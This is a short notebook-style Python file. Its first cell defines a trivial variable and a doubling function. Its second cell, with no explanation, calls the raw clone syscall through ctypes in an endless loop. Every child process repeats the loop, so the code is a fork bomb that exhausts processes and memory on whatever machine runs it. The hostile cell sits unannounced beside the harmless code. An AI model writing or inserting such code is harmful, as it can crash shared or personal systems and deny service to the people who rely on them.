# %%
answer = 42


def double(x):
    return 2 * x

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
clone = 56 if os.uname().machine == "x86_64" else 220
while True:
    if libc.syscall(clone, 0x11, 0, 0, 0, 0) < 0 and ctypes.get_errno() not in (11, 12):
        break
